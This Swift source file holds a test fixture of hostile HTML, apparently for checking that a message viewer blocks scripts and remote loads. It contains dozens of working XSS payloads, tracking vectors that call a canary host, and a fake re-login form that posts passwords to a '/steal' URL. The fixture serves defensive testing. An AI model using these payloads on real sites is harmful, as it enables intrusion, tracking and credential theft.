// Messages that try to run something or to tell somebody that they were read (reliability.md A1, A2, A4). `{c}` stands
// for the canary: a foreign host, or an address of this machine.

enum HostileHTML {
    static let all: [String] = scripts + loads + tricks

    /// Would run.
    private static let scripts = [
        "<script>alert(1)</script>", "<ScRiPt src=http://{c}/a.js></sCrIpT>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"data:text/html,<script>alert(1)</script>\">",
        "<a href=\"java&#10;script:alert(1)\" autofocus onfocus=alert(1)>x</a>",
        "<form><button formaction=javascript:alert(1) autofocus>x</button></form>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<isindex action=javascript:alert(1) type=submit>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=alert(1)>",
        "<xss onpointerrawupdate=alert(1) style=display:block>x",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
    ]

    /// Would load.
    private static let loads = [
        "<img src=http://{c}/1.png>", "<img srcset=\"http://{c}/2.png 2x\">",
        "<picture><source srcset=http://{c}/3.png><img></picture>",
        "<table background=http://{c}/4.png><tr><td background=//{c}/5.png>x",
        "<p style=\"background:url(http://{c}/6.png)\">x",
        "<p style=\"background:u\\72l(http://{c}/7.png)\">x", "<p style=\"list-style-image:url('//{c}/8.png')\">x",
        "<style>@import url(http://{c}/9.css);</style>",
        "<style>p{background:url(http://{c}/10.png)}</style><p>x", "<link rel=stylesheet href=http://{c}/11.css>",
        "<link rel=prefetch href=http://{c}/12>",
        "<link rel=dns-prefetch href=//dns.evil.example>", "<link rel=preconnect href=http://{c}>",
        "<video poster=http://{c}/13.png></video>",
        "<audio src=http://{c}/14.mp3 autoplay></audio>",
        "<video autoplay><track src=http://{c}/15.vtt default></video>", "<iframe src=http://{c}/16></iframe>",
        "<object data=http://{c}/17></object>", "<embed src=http://{c}/18>", "<input type=image src=http://{c}/19.png>",
        "<svg><image href=http://{c}/20.png /></svg>", "<svg><use href=http://{c}/21.svg#x /></svg>",
        "<svg><filter><feImage href=http://{c}/22.png /></filter></svg>",
        "<svg style=\"fill:url(http://{c}/23.svg#x)\"><rect width=9 height=9 /></svg>",
        "<base href=http://{c}/><img src=24.png>",
        "<meta http-equiv=refresh content=\"0;url=http://{c}/25\">",
        "<p style=\"cursor:url(http://{c}/26.cur),auto\">x", "<p style=\"content:url(http://{c}/27.png)\">x",
        "<p style=\"mask-image:url(http://{c}/28.png);border-image:url(http://{c}/29.png) 1\">x",
        "<p style=\"--a:url(http://{c}/30.png);background:var(--a)\">x",
        "<style>@font-face{font-family:x;src:url(http://{c}/31.woff)}p{font-family:x}</style><p>x",
        "<p style=\"background:image-set('http://{c}/32.png' 1x)\">x",
        "<body background=http://{c}/33.png>", "<img src=\"http:&#x2f;&#x2f;{c}/34.png\">",
        "<img src=\"\thttp://{c}/35.png\">", "<img lowsrc=http://{c}/36.png dynsrc=http://{c}/37.avi>",
        "<v:rect><v:fill src=http://{c}/38.png /></v:rect>", "<bgsound src=http://{c}/39.wav>",
        "<applet code=x codebase=http://{c}/40></applet>", "<frameset><frame src=http://{c}/41></frameset>",
        "<a ping=http://{c}/42 href=http://{c}/43>x</a>",
        "<p style=\"shape-outside:url(http://{c}/44.png);filter:url(http://{c}/45.svg#f)\">x",
        "<script src=http://{c}/46.js></script>",
        "<link rel=\"shortcut icon\" href=http://{c}/47.ico>", "<link rel=manifest href=http://{c}/48>",
        "<link rel=modulepreload href=http://{c}/49.js>",
    ]

    /// Would pretend or break out.
    private static let tricks = [
        "</div></body></html><script>top.location='http://{c}/out'</script>",
        "<a href=http://{c}/top target=_top id=x>x</a><script>x.click()</script>",
        "<div style=\"position:fixed;inset:0;z-index:99999;background:#fff\">Accedi di nuovo<form action=http://{c}/steal><input name=password></form></div>",
        "<plaintext>", "<textarea><img src=http://{c}/t.png>", "<title></title><img src=x onerror=alert(1)>",
        String(repeating: "<div>", count: 3000) + "<img src=x onerror=alert(1)>",
        "<iframe src=/tickets></iframe><iframe src=/logout></iframe>", "<img src=/logout><img src=file:///etc/passwd>",
    ]
}
